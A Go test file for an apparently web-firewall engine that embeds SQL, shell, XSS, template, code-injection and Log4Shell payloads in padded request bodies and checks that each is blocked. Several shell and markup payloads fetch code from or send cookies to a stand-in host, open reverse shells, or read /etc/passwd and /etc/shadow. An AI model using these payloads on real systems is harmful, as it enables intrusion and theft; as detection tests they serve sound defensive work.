package engine

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/gabionhq/gabion/engine/rule"
)

// breakOuts are attacks that leave what a parameter is put into, by language.
var breakOuts = map[string][]string{
	"sql": {
		`1' or '1'='1`, `x' union select name,pass from users-- -`, `1 and sleep(10)`, `1'; drop table users-- -`, `5 or 1=1-- -`,
		`x')) or (select count(*) from users)>0-- -`, `1;waitfor delay '0:0:5'--`, `1 union all select null,table_name from information_schema.tables`,
		`x'||(select pass from users limit 1)||'`, `1) or 1=1#`, `1 and 1=cast((select pass from users limit 1) as int)`, `x' and extractvalue(1,concat(0x7e,version()))-- -`,
		`1 or exists(select 1 from users)`, `0 or pg_sleep(5)`,
	},
	"shell": {
		`10.0.0.1; wget http://evil.example/x -O /tmp/x`, `x|nc -e /bin/sh 10.0.0.1 99`, `x$(curl http://evil.example/x)`, `a.txt && cat /etc/passwd`,
		"x`wget http://evil.example/x`", `x;ping -c 5 10.0.0.1`, `x;uname -a`, `x&whoami&`, `x;sleep 10;`, `1.2.3.4;bash -i >& /dev/tcp/10.0.0.1/99 0>&1`,
		`x;{cat,/etc/passwd}`, `x;c''at /e\tc/passwd`, `x;cat${IFS}/etc/passwd`, `x; python3 -c 'import os;os.system("id")'`,
		`x;cat /etc/shadow;`, `10.0.0.1 || curl http://evil.example/x | sh`,
	},
	"markup": {
		`"><script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`, `</textarea><svg onload=fetch('//evil.example/'+document.cookie)>`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<script src=//evil.example/x.js></script>`, `<a href=javascript:alert(1)>x</a>`,
		`" autofocus onfocus=alert(1) x="`, `';alert(document.domain);'`, `<body onload=eval(atob('YWxlcnQoMSk='))>`, `<math><mtext></mtext><img src=x onerror=alert(1)>`,
		`[x](javascript:alert(1))`, `<object data="data:text/html,<script>alert(1)</script>">`, `<style>@import 'http://evil.example/x.css';</style>`,
	},
	"template": {
		`{{''.__class__.__mro__[1].__subclasses__()}}`, `${T(java.lang.Runtime).getRuntime().exec('id')}`, `{{7*7}}`,
		`#{7*7}`, `<%= system('id') %>`, `{% for x in ().__class__.__base__.__subclasses__() %}`, `{{config.items()}}`, `*{T(java.lang.Runtime)}`,
		`{{constructor.constructor('alert(1)')()}}`,
	},
	"code": {
		`';system('id');//`, `");require('child_process').exec('id');//`, `".shell_exec($_GET['c'])."`,
		`';eval($_POST[1]);'`, `process.mainModule.require('child_process').execSync('id')`, `__import__('os').system('id')`, `<?php system($_GET['c']); ?>`,
	},
	"other": {
		`${jndi:ldap://evil.example/a}`,
	},
}

// paddings are ordinary texts, as long as a padding may be.
var paddings = map[string]string{
	"prose": repeated(`The harbour was quiet when the ferry left, and nobody asked where the old crane had gone.
We counted seven boats; two of them had new sails and one wasn't there last year.
`),
	"line":     repeated("The harbour was quiet when the ferry left and nobody asked where the old crane had gone. "),
	"markdown": repeated("## Release notes\n\n- faster start, see `config.toml`\n- *fewer* warnings\n\n> Thanks to all who helped.\n\n"),
	"code":     repeated("func add(a, b int) int {\n\tsum := a + b\n\treturn sum // both\n}\n\nfor i := 0; i < n; i++ {\n\ttotal += values[i]\n}\n\n"),
	"log":      repeated("2026-03-01T10:00:00Z INFO worker started pid=312\n2026-03-01T10:00:04Z WARN queue is long len=90 name=mail\n"),
}

func repeated(s string) string { return strings.Repeat(s, 8192/len(s)+1) }

// padded returns the attack with n bytes of padding before and after it, as
// far as those are wanted.
func padded(attack, pad string, n int, before, after bool) string {
	end := strings.LastIndexAny(pad[:n], "\n")
	if end < 0 {
		end = strings.LastIndexByte(pad[:n], ' ')
	}
	pad = pad[:end+1]
	if before {
		attack = pad + attack
	}
	if after {
		attack += " " + pad
	}
	return attack
}

// placed returns requests that hold a value where interpreters get it from.
func placed(v string) map[string]request {
	object, _ := json.Marshal(map[string]string{"q": v})
	m := map[string]request{
		"json": post("application/json", string(object)),
		"form": post("application/x-www-form-urlencoded", "a=1&q="+url.QueryEscape(v)),
		"part": post("multipart/form-data; boundary="+sep, part(v)+"--"+sep+"--"+line),
	}
	if len(v) < 4096 {
		m["query"] = request{method: "GET", target: "/items?q=" + url.QueryEscape(v)}
	}
	return m
}

// documents places a text where people send documents: as placed does, but for
// queries, and as a file and a body.
func documents(v string) map[string]request {
	m := placed(v)
	delete(m, "query")
	m["file"] = post("multipart/form-data; boundary="+sep, "--"+sep+line+`Content-Disposition: form-data; name="f"; filename="a.txt"`+line+"Content-Type: text/plain"+line+line+v+line+"--"+sep+"--"+line)
	m["body"] = post("text/plain", v)
	return m
}

// TestPadding hides attacks in ordinary texts. One that stands on a line of its
// own or behind prose is found; what follows a command on a line of a script,
// in the body, is taken for a part of the script.
func TestPadding(t *testing.T) {
	e := New(Options{})
	for language, attacks := range breakOuts {
		for _, attack := range attacks {
			for kind, pad := range paddings {
				for _, n := range []int{200, 1000, 8000} {
					for side := range 3 {
						v := padded(attack, pad, n, side != 1, side != 0)
						for place, r := range placed(v) {
							if verdict, _ := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); verdict.Decision != Block {
								t.Errorf("%s", fmt.Sprintf("%s, %s, %d bytes of %s, side %d: %q passes with %.2f", language, place, n, kind, side, attack, verdict.Score))
							}
						}
					}
				}
			}
		}
	}
}
